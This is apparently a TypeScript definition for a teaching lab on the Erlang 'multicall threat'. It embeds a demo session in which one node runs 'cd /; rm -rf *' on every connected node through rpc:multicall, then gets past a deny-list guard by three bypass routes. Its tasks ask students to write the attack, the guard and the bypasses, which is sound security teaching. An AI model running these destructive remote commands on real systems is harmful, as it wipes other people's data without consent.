/**
 * Lab 09: the multicall threat. What running it shows. What the student's `attack` and `guard` have to
 * do is in `checks.ts`, and what the lab gives in `given/`.
 */
import type { Lab } from "../kit/check/lab.ts";
import { main } from "../kit/cli/main.ts";
import { anotherDoor, anotherName, byMessage } from "./around-checks.ts";
import {
  asksAll,
  emptiesAll,
  letsIn,
  refusesAnyCommand,
  refusesAttack,
  seesThroughApply,
} from "./checks.ts";

export const lab: Lab = {
  number: "09",
  title: "The multicall threat",
  files: { "attack.ts": "1b8aa02ec9466dfb", "guard.ts": "b577a202969ef87d" },
  uses: ["01"],
  session: `
(sif@surtur)1> os:cmd("ls").
"notes.txt\\nthesis\\n"
(amora@surtur)1> os:cmd("ls").
"notes.txt\\nthesis\\n"
(loki@surtur)1> [net_adm:ping(Node) || Node <- [sif@surtur, amora@surtur]].
[pong,pong]
(loki@surtur)2> rpc:multicall(nodes(), os, cmd, ["cd /; rm -rf *"]).
{[[],[]],[]}
(sif@surtur)2> os:cmd("ls /").
[]
(sif@surtur)3> os:cmd("echo 42 > /thesis").
[]
(sif@surtur)4> door:close().
true
(loki@surtur)3> attack:everywhere("cd /; rm -rf *").
{[[]],[sif@surtur]}
(sif@surtur)5> os:cmd("ls /").
"thesis\\n"
(loki@surtur)4> attack:by_another_name(sif@surtur, "cat /thesis").
"42\\n"
(loki@surtur)5> attack:by_another_door(sif@surtur, "cd /; rm -rf *").
<9418.105.0>
(loki@surtur)6> attack:by_message(sif@surtur, "ls /").
[]
(sif@surtur)6> os:cmd("ls /").
[]
`,
  tasks: [
    { title: "The attack", checks: [asksAll, emptiesAll] },
    {
      title: "A deny-list",
      checks: [refusesAttack, refusesAnyCommand, letsIn, seesThroughApply],
    },
    { title: "Three ways around it", checks: [anotherName, anotherDoor, byMessage] },
  ],
};

await main(lab, import.meta.url);
